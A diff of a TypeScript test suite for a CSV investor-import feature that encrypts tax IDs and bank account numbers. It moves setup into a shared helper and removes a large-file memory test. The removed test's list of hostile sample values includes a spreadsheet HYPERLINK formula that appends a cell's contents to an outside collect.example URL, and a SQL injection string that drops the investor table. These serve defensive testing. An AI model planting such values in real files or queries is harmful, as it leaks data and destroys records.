@@ -1,157 +1,11 @@
-import { randomBytes } from 'node:crypto'
+// Importing investors from a CSV file: what is read, and that a file with a problem imports nothing and says where it is.
 import { Readable } from 'node:stream'
-import { setFlagsFromString } from 'node:v8'
-import { runInNewContext } from 'node:vm'
-import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest'
-import { InvestorImportError, importInvestors } from '../../src/investors/import/import-investors.ts'
-import { openBankAccountNumber, openTaxId } from '../../src/investors/sensitive-fields.ts'
-import { indexTaxId } from '../../src/investors/tax-id-index.ts'
-import { createFieldCipher } from '../../src/platform/encryption/field-encryption.ts'
-import { createTestDatabase, type TestDatabase } from '../support/database.ts'
+import { describe, expect, test, vi } from 'vitest'
+import { InvestorImportError } from '../../src/investors/import/import-investors.ts'
+import { importColumns, useImportBench } from '../support/import-bench.ts'
 
-setFlagsFromString('--expose-gc')
-const collectGarbage = runInNewContext('gc') as () => void
-
-const cipher = createFieldCipher(randomBytes(32))
-let database: TestDatabase
-let accountId: string
-
-beforeAll(async () => {
-  database = await createTestDatabase()
-  await database.db.account.create({ data: { name: 'Harbor Point Partners' } })
-  const account = await database.db.account.create({ data: { name: 'Summit Ridge Capital' } })
-  accountId = account.id
-})
-afterEach(async () => void (await database.db.investor.deleteMany()))
-afterAll(() => database.drop())
-
-const importFrom = (csv: Readable, accountName = 'Summit Ridge Capital') =>
-  importInvestors({ pool: database.pool, cipher, accountName, csv })
-
-const importText = (text: string | Buffer) => importFrom(Readable.from([text], { objectMode: false }))
-
-/** The message of a refused import, after making sure that it left nothing behind. */
-async function refusalOf(text: string | Buffer): Promise<string> {
-  const error = await importText(text).then(
-    () => null,
-    (caught: unknown) => caught,
-  )
-  expect(error).toBeInstanceOf(InvestorImportError)
-  expect(await database.db.investor.count()).toBe(0)
-  return (error as Error).message
-}
-
-const columnNames = [
-  'external_id',
-  'name',
-  'email',
-  'profile_type',
-  'address',
-  'tax_id',
-  'bank_name',
-  'bank_account_type',
-  'bank_routing_number',
-  'bank_account_number',
-]
-
-const hostile = [
-  'He said "now", twice ""',
-  'line one\r\nline two\nline three\rfour',
-  'tab\there',
-  'back\\slash \\t \\x41',
-  '\\N',
-  '\\.',
-  'a\n\\.\nb',
-  '=HYPERLINK("https://collect.example/?q="&A1)',
-  '+1 Ventures; LLC',
-  'emoji 🏦👩‍👩‍👧',
-  'Cafe\u0301 and Café',
-  'משפחת לוי 山田',
-  "'; DROP TABLE investor; --",
-  '\u0001\b\f\v\u007f|',
-]
-
-function hostileRow(n: number) {
-  const value = hostile[n % hostile.length] as string
-  const digits = String(n).padStart(6, '0')
-  return {
-    externalId: `${value.slice(0, 20)} ${n}`,
-    name: `${value} ${n}`,
-    email: `investor.${n}@mail.example`,
-    profileType: ['INDIVIDUAL', 'JOINT', 'TRUST', 'ENTITY', 'IRA'][n % 5],
-    address: n % 3 === 0 ? null : value,
-    taxId: n % 7 === 0 ? null : `000-${digits.slice(0, 2)}-${digits.slice(2)}`,
-    bankName: value,
-    bankAccountType: n % 2 === 0 ? 'CHECKING' : 'SAVINGS',
-    bankRoutingNumber: '021000021',
-    bankAccountNumber: `000${digits}`,
-  }
-}
-
-const toCsvLine = (values: (string | null | undefined)[]) =>
-  `${values.map((value) => `"${(value ?? '').replaceAll('"', '""')}"`).join(',')}\r\n`
-
-/** In chunks of the size in which a file is read. */
-function* hostileFile(rows: number) {
-  let chunk = `\uFEFF${columnNames.join(',')}\r\n`
-  for (let n = 0; n < rows; n += 1) {
-    chunk += toCsvLine(Object.values(hostileRow(n)))
-    if (chunk.length < 65_536) continue
-    yield Buffer.from(chunk)
-    chunk = ''
-  }
-  yield Buffer.from(chunk)
-}
-
-describe('a large file', () => {
-  test('100,000 rows of hostile values arrive unchanged, in flat memory', { timeout: 120_000 }, async () => {
-    const megabytesInUse: number[] = []
-    const imported = await importInvestors({
-      pool: database.pool,
-      cipher,
-      accountName: 'Summit Ridge Capital',
-      csv: Readable.from(hostileFile(100_000), { objectMode: false }),
-      onProgress: (rowsRead) => {
-        if (rowsRead % 10_000 === 0) megabytesInUse.push(measureMemory())
-      },
-    })
-    expect(imported).toEqual({ imported: 100_000 })
-    expect(megabytesInUse).toHaveLength(10)
-    expect(Math.max(...megabytesInUse) - (megabytesInUse[0] as number)).toBeLessThan(8)
-    expect(await database.db.investor.count({ where: { accountId } })).toBe(100_000)
-    await expectStored([0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 777, 31_415, 65_536, 99_998, 99_999])
-  })
-})
-
-/** What is in use, in megabytes, without what the garbage collector has not yet come to. */
-function measureMemory(): number {
-  collectGarbage()
-  const { heapUsed, external } = process.memoryUsage()
-  return (heapUsed + external) / 1e6
-}
-
-async function expectStored(numbers: number[]): Promise<void> {
-  const wanted = numbers.map(hostileRow)
-  const rows = await database.db.investor.findMany({
-    where: { externalId: { in: wanted.map((row) => row.externalId) } },
-  })
-  const byEmail = new Map(rows.map((row) => [row.email, row]))
-  for (const row of wanted) {
-    const stored = byEmail.get(row.email)
-    if (!stored) throw new Error(`no investor ${row.email}`)
-    const { id, createdAt, taxId, bankAccountNumber, taxIdLast4, taxIdIndex, bankAccountLast4, ...plain } =
-      stored
-    expect({
-      ...plain,
-      taxId: taxId && openTaxId(cipher, id, taxId),
-      bankAccountNumber: bankAccountNumber && openBankAccountNumber(cipher, id, bankAccountNumber),
-    }).toEqual({ accountId, ...row })
-    expect(taxIdIndex).toEqual(row.taxId && new Uint8Array(indexTaxId(cipher, accountId, row.taxId)))
-    expect(taxIdLast4).toBe(row.taxId?.slice(-4) ?? null)
-    expect(bankAccountLast4).toBe(row.bankAccountNumber.slice(-4))
-    expect(Math.abs(Date.now() - createdAt.getTime())).toBeLessThan(120_000)
-  }
-}
+const bench = useImportBench()
+const { database, importFrom, importText, refusalOf } = bench
 
 describe('what is read', () => {
   test('columns in any order and case, any line ends, a byte order mark, and blank rows', async () => {
@@ -164,7 +18,7 @@ describe('what is read', () => {
   test('the same external id in another account is another investor', async () => {
     const file = 'external_id,name,profile_type\nA-1,Ana,IRA\n'
     await importText(file)
-    await importFrom(Readable.from([file]), 'Harbor Point Partners')
+    await importFrom(Readable.from([file]), { accountName: 'Harbor Point Partners' })
     expect(await database.db.investor.count({ where: { externalId: 'A-1' } })).toBe(2)
   })
 
@@ -285,7 +139,7 @@ describe('two at once', () => {
     await other.query(
       `INSERT INTO investor (id, account_id, external_id, name, profile_type)
        VALUES (gen_random_uuid(), $1, 'A-2', 'Earlier', 'IRA')`,
-      [accountId],
+      [bench.accountId],
     )
     const importing = importText(
       'external_id,name,profile_type\nA-1,Ana,IRA\nA-2,Bo,IRA\nA-3,Cy,IRA\n',
@@ -308,12 +162,12 @@ describe('two at once', () => {
 })
 
 describe('files that cannot be read, and accounts that do not exist', () => {
-  const columns = `They can be: ${columnNames.join(', ')}.`
+  const columns = `They can be: ${importColumns.join(', ')}.`
   const quotes =
     'Put a value that contains quotes in quotes, and write each of its own quotes twice, like "the ""Oak"" trust".'
 
   test.each([
-    ['empty', '', `The file is empty. Its columns can be: ${columnNames.join(', ')}.`],
+    ['empty', '', `The file is empty. Its columns can be: ${importColumns.join(', ')}.`],
     [
       'without a header',
       'Ana,IRA,000-12-3456\n',
@@ -356,7 +210,7 @@ describe('files that cannot be read, and accounts that do not exist', () => {
 
   test('an unknown account: names those that exist, and lets go of the file', async () => {
     const csv = Readable.from(['name,profile_type\nAna,IRA\n'])
-    await expect(importFrom(csv, 'Summit')).rejects.toThrow(
+    await expect(importFrom(csv, { accountName: 'Summit' })).rejects.toThrow(
       new InvestorImportError(
         'Nothing was imported: there is no account named "Summit". Use one of: "Harbor Point Partners", "Summit Ridge Capital".',
       ),
